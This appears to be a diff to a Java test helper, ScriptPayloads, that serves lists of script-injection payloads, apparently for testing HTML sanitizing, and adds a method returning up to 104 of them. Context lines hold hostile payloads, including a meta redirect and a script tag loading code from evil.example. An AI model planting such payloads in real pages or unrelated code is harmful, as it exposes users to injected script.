@@ -30,6 +30,8 @@ final class ScriptPayloads {
             "<meta http-equiv=refresh content='0;url=http://evil.example/11'>",
             "<script src=http://evil.example/12.js></script>");
 
+    private static final int A_HUNDRED = 104;
+
     private final List<String> lines;
 
     /** Begins elsewhere each time, so that no payload hides forever behind one that swallows what follows it. */
@@ -58,6 +60,12 @@ final class ScriptPayloads {
     /** All of them, one per line. */
     String together() {
         return String.join("\n\n", turned());
+    }
+
+    /** More than a hundred of them; fields side by side hold them all. */
+    String aHundred() {
+        List<String> turned = turned();
+        return String.join("\n\n", turned.subList(0, Math.min(A_HUNDRED, turned.size())));
     }
 
     /** As many as fit, at least one. */
